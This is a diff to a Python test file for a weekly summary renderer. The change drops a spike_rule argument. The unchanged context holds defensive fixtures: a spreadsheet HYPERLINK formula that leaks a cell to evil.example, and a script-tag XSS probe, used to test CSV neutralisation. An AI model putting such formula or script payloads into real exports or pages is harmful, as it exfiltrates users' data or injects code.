@@ -13,7 +13,7 @@ import pytest
 from analysis.summary import build_weekly_summary
 from analysis.summary_render import FORMATS, neutralise, render
 from ingest.errors import AnalysisError
-from tests.summary.fabricate import TEXTS, WEEK, fabricate, threshold_spike_rule
+from tests.summary.fabricate import TEXTS, WEEK, fabricate
 from tests.summary.test_builder import COUNTS
 
 HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1, "click")'
@@ -33,7 +33,7 @@ def summary():
         3: "<script>alert(1)</script> see https://shop.example/x.png {n}",
     }
     items, themes = fabricate(COUNTS, texts=texts, sentiment={1: [0.2] * 8 + [-0.4]})
-    return build_weekly_summary(items, themes, WEEK, spike_rule=threshold_spike_rule)
+    return build_weekly_summary(items, themes, WEEK)
 
 
 def test_every_format_renders_in_both_languages(summary):
@@ -121,7 +121,7 @@ def test_csv_one_row_per_theme_and_neutralised(summary):
 def test_csv_neutralises_a_hostile_theme_name():
     items, themes = fabricate(COUNTS)
     themes.loc[themes["theme_id"] == 2, ["label_en", "label_nl"]] = '=HYPERLINK("x")'
-    summary = build_weekly_summary(items, themes, WEEK, spike_rule=threshold_spike_rule)
+    summary = build_weekly_summary(items, themes, WEEK)
     text = render(summary, "csv", "en").decode("utf-8-sig")
     assert "'=HYPERLINK(" in text
     assert not re.search(r"(^|,)=HYPERLINK", text, re.MULTILINE)
